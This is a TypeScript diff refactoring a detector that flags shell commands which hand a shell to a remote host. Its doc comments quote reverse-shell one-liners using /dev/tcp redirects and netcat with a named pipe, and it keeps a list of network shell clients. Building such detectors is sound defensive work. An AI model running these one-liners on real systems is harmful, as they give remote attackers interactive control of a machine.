@@ -54,7 +54,8 @@ export function shellListeners(commands: readonly Command[]): ShellListener[] {
       shellCode(command);
     return found === null ? [] : [{ index, ...found }];
   });
-  const joined = joinedShells(commands).filter(({ index }) => !single.some((one) => one.index === index));
+  const known = new Set(single.map(({ index }) => index));
+  const joined = joinedShells(commands).filter(({ index }) => !known.has(index));
   return [...single, ...joined].sort((a, b) => a.index - b.index);
 }
 
@@ -133,7 +134,7 @@ function sshOptions(words: readonly string[], program: string): readonly string[
 
 /** `bash -i >& /dev/tcp/host/port 0>&1`: bash(1), "REDIRECTION". Without `-i` or redirected input it is a probe. */
 function deviceShell({ program, redirects, arguments: words }: Command): Found | null {
-  const interactive = words.some((word) => /^-[a-z]*i[a-z]*$/.test(word));
+  const interactive = words.some((word) => /^-[a-hj-z]*i[a-z]*$/.test(word));
   const remote = redirects.some(({ target }) => /^\/dev\/(?:tcp|udp)\//.test(target));
   return isShell(program) && interactive && remote
     ? { what: 'reverse', message: `hands a shell to a remote host (${program})` }
@@ -156,20 +157,20 @@ const clients: ReadonlySet<string> = new Set([...netcats, 'telnet', 'socat']);
 
 /** `sh -i < /tmp/f | nc host port > /tmp/f`, `exec 5<>/dev/tcp/host/port; sh <&5`: a shell and a connection, joined by the shell. */
 function joinedShells(commands: readonly Command[]): ShellListener[] {
-  const connected = new Set(
-    commands.filter((command) => clients.has(command.program)).map((command) => command.pipeline),
-  );
+  const connected = pipelinesOf(commands, ({ program }) => clients.has(program));
+  const reading = pipelinesOf(commands, ({ redirects }) => redirects.some(readsConnection));
   let device = false;
   return commands.flatMap((command, index): ShellListener[] => {
     device ||= command.redirects.some(({ target }) => /^\/dev\/(?:tcp|udp)\//.test(target));
     const reads = isShell(command.program) && runsInput(command);
     const given = connected.has(command.pipeline) || (device && command.redirects.some(readsConnection));
-    const piped =
-      device &&
-      commands.some((one) => one.pipeline === command.pipeline && one.redirects.some(readsConnection));
-    if (!reads || !(given || piped)) return [];
+    if (!reads || !(given || (device && reading.has(command.pipeline)))) return [];
     return [{ index, what: 'reverse', message: `hands a shell to a remote host (${command.program})` }];
   });
+}
+
+function pipelinesOf(commands: readonly Command[], has: (command: Command) => boolean): ReadonlySet<number> {
+  return new Set(commands.filter(has).map(({ pipeline }) => pipeline));
 }
 
 const readsConnection = ({ operator, target }: Command['redirects'][number]) =>
